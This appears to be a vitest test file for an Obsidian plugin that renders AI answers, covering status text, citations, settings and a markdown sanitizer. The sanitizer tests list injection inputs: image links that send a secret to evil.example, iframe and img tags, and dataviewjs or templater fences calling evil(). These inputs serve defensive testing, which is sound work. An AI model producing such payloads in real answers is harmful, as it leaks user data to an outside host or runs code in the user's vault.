import { readdirSync, readFileSync } from "node:fs";

import { type CitationEvent, EMPTY_VIEW, type QuestionView, type StepView } from "@turnwire/client";
import { describe, expect, it } from "vitest";

import manifest from "../manifest.json";
import { findPassage, noteOf } from "../src/citations";
import { finishedEnd, harmless } from "../src/markdown";
import { movedSessions, readSettings } from "../src/settings";
import { statusOf } from "../src/status";

const seen = (text: string): string => text.replaceAll("\u200b", "");

it("the status says what a turn waits for", () => {
  const turn = { ...EMPTY_VIEW, phase: "waiting" as const };
  const question: QuestionView = { id: "q", prompt: "Which one?", position: 3, state: "open" };
  const call = { kind: "tool", id: "c", name: "locate", position: 3, answerOffset: 0, state: "running", runsOn: "client", agentPath: [] };
  expect(statusOf({ ...turn, approvals: [{ type: "approval_request", call_id: "c", tool: "pay", args: {} }] })).toBe("Waiting for your decision");
  expect(statusOf({ ...turn, questions: [question] })).toBe("Answer on the server’s page: Which one?");
  expect(statusOf({ ...turn, steps: [call as StepView] })).toBe("Waiting for locate of another program");
});

describe("an untrusted answer", () => {
  it.each([
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "\\![x](https://evil.example/p.png)",
    "![[Private note]]",
    "<img src=https://evil.example/p.png>",
    "<iframe src='https://evil.example'></iframe>",
    "`<img src=x>`",
    "1. item\n   ```\n2. item\n   ```\n<img src=x>",
    "- a\n  ```\n```\n<img src=x>\n```\n![x](https://evil.example)\n",
    "> ```\n<img src=x>\n> ```",
    "<!-- <img src=x> -->",
    "`$= dv.io.load('x')` and `= this.file`",
  ])("loads nothing and is no HTML: %s", (text) => {
    const safe = harmless(text);
    const outside = withoutCode(safe);
    expect(outside).not.toMatch(/<[a-zA-Z/!?]/);
    expect(outside).not.toMatch(/!\[/);
    expect(outside).not.toMatch(/`\s*\$?=/);
  });

  it("is shown completely", () => {
    expect(seen(harmless("a < b, **b** [1] `x<y>` ![p](q)\n"))).toBe("a < b, **b** [1] `x<y>` ![p](q)\n");
  });

  it.each(["dataviewjs", "dataview", "js-engine", "query", "templater", "run-python", "DataviewJS", "mermaid"])(
    "is not run as %s",
    (language) => expect(harmless(`\`\`\`${language}\nevil()\n\`\`\``)).toBe("\n```\nevil()\n```"),
  );

  it.each(["> ```dataviewjs", "- ```dataviewjs", "1. > ~~~ dataviewjs x", "> - ````dataviewjs"])(
    "is not run where it stands in something else: %s",
    (line) => expect(harmless(`${line}\nevil()`)).not.toContain("dataviewjs"),
  );

  it("keeps the code, and the language if no plugin runs it", () => {
    expect(harmless("~~~python\nprint('```', '<b>')\n~~~")).toBe("\n````python\nprint('```', '<b>')\n````");
    expect(harmless("```js\nno end <b>")).toBe("\n```js\nno end <b>\n```");
  });
});

/** Returns the visible text. Only an unindented fence counts as code, as in the renderer. */
function withoutCode(text: string): string {
  const out: string[] = [];
  let mark: string | undefined;
  for (const line of text.split("\n")) {
    const fence = /^(`{3,})(\S*)$/.exec(line);
    if (mark === undefined && fence) mark = fence[1]!;
    else if (mark !== undefined && fence && !fence[2] && fence[1]!.length >= mark.length) mark = undefined;
    else if (mark === undefined) out.push(line);
  }
  return out.join("\n");
}

describe("a block", () => {
  it.each([
    ["One.\n\nTwo", "One.\n\n"],
    ["One.\n\n", ""],
    ["One.\nstill one", ""],
    ["```js\na\n\nb\n", ""],
    ["```js\na\n\nb\n```\n\nText", "```js\na\n\nb\n```\n\n"],
    ["- a\n\n- b\n\n  more", ""],
    ["- a\n\n- b\n\nText", "- a\n\n- b\n\n"],
    ["1. a\n\n    code", ""],
    ["One.\n\nTwo.\n\nThree", "One.\n\nTwo.\n\n"],
  ])("is finished when nothing can be added to it: %j", (text, finished) => {
    expect(text.slice(0, finishedEnd(text, 0))).toBe(finished);
  });

  it("is found in text cut anywhere", () => {
    const text = "# A\n\nOne.\n\n- x\n\n- y\n\n```\ncode\n\nmore\n```\n\n| a |\n| - |\n\nEnd.";
    let end = 0;
    for (let length = 0; length <= text.length; length++) {
      const next = finishedEnd(text.slice(0, length), end);
      expect(next).toBeGreaterThanOrEqual(end);
      end = next;
    }
    expect(text.slice(end)).toBe("End.");
  });
});

describe("a citation", () => {
  const cited = (more: Partial<CitationEvent>): CitationEvent =>
    ({ type: "citation", index: 1, document_id: "d", ...more }) as CitationEvent;

  it("names a note only with an Obsidian address", () => {
    expect(noteOf(cited({ url: "obsidian://open?vault=My%20Vault&file=A%2FB%20%26%20C.md" }))).toBe("A/B & C.md");
    expect(noteOf(cited({ url: "https://example.com/?file=A.md" }))).toBe(undefined);
    expect(noteOf(cited({}))).toBe(undefined);
  });

  it("finds its quote nearest to the old offset, then its heading", () => {
    const text = "# Top\n\nSame words.\n\n## Deep (1)\n\nSame   words. Other.\n";
    const at = (more: Partial<CitationEvent>): string | undefined => {
      const range = findPassage(text, cited(more));
      return range && `${range.from}:${text.slice(range.from, range.to)}`;
    };
    expect(at({ supporting_quote: "Same words.", source_start: 0 })).toBe("7:Same words.");
    expect(at({ supporting_quote: "Same words.", source_start: 40 })).toBe("33:Same   words.");
    expect(at({ supporting_quote: "Gone.", heading: "Top › Deep (1)" })).toBe("20:## Deep (1)");
    expect(at({ supporting_quote: "Gone." })).toBe(undefined);
  });
});

describe("settings", () => {
  it("are read from any data", () => {
    expect(readSettings(null).url).toBe("http://127.0.0.1:8420");
    expect(readSettings({ url: 7, scope: "moon", sessions: { a: 1, "b.md": "s" } })).toMatchObject({
      url: "http://127.0.0.1:8420",
      scope: "vault",
      sessions: { "b.md": "s" },
    });
  });

  it("follow a moved note or folder", () => {
    const sessions = { "": "v", "A.md": "a", "F/B.md": "b", "FF/C.md": "c" };
    expect(movedSessions(sessions, "F", "G")).toEqual({ "": "v", "A.md": "a", "G/B.md": "b", "FF/C.md": "c" });
    expect(movedSessions(sessions, "A.md", "Z.md")).toEqual({ "": "v", "Z.md": "a", "F/B.md": "b", "FF/C.md": "c" });
  });
});

describe("the community's rules", () => {
  const read = (name: string): string => readFileSync(name, "utf8");
  const source = readdirSync("src").map((name) => read(`src/${name}`)).join("\n");

  it("are kept by the manifest", () => {
    expect(manifest.id).toMatch(/^[a-z-]+(?<!plugin)$/);
    expect(manifest.id + manifest.name).not.toMatch(/obsidian|plugin/i);
    expect(manifest.description.length).toBeLessThanOrEqual(250);
    expect(manifest.description).toMatch(/\.$/);
    expect(manifest.version).toMatch(/^\d+\.\d+\.\d+$/);
    expect(JSON.parse(read("versions.json"))[manifest.version]).toBe(manifest.minAppVersion);
    expect(JSON.parse(read("package.json")).version).toBe(manifest.version);
  });

  it("are kept by the code", () => {
    expect(source).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML/);
    expect(source).not.toMatch(/hotkeys|detachLeavesOfType|localStorage|console\.(log|debug)|eval\(/);
    expect(read("README.md")).toContain("## Network use");
    expect(read("LICENSE")).toContain("Apache License");
  });
});
